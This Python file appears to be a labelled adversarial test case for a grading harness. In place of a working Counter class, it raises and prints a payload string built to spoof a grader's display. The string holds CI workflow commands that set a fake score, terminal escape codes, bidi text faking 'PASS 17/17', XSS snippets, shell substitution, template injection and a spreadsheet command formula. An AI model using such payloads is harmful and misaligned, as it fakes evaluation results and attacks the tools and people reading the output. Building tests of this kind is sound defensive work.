# attack: markup
# verdict: fail exception
# score: 0
# Commands for a CI runner, escape sequences, bidirectional text, HTML, Markdown and mentions, wherever text is shown.
import threading

EVIL = (
    "\n::error file=a,line=1::owned\n::add-mask::pass\n::set-output name=score::17\n##[error]owned\r\n"
    "\x1b[2J\x1b[31mPASS 17/17\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x9b31m \x00 \x7f\b\b\b"
    "\u202e71/71 ssap\u202c \u2066hidden\u2069 \u200e\u200f \u2028::error::line\u2029 \ufeff"
    "<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; [link](javascript:alert(1)) ![i](http://evil.example/x)"
    "\n```\n# Grade: 17/17\n| pass | 17 |\n````\n@everyone #1 $(id) `id` %PATH% {{ 7 * 7 }} =cmd|'/c calc'!A1"
)


Evil = type(EVIL.replace("\x00", ""), (RuntimeError,), {})


class Counter:
    def __init__(self, start=0):
        self._lock = threading.Lock()

    def increment(self, by=1):
        thread = threading.Thread(target=self.work, name=EVIL)
        thread.start()
        thread.join()
        raise Evil(EVIL)

    def work(self):
        """
::error::a line of the source
        """
        print(EVIL)
        raise ValueError(EVIL)

    value = property(lambda self: EVIL)

    def reset(self):
        return EVIL
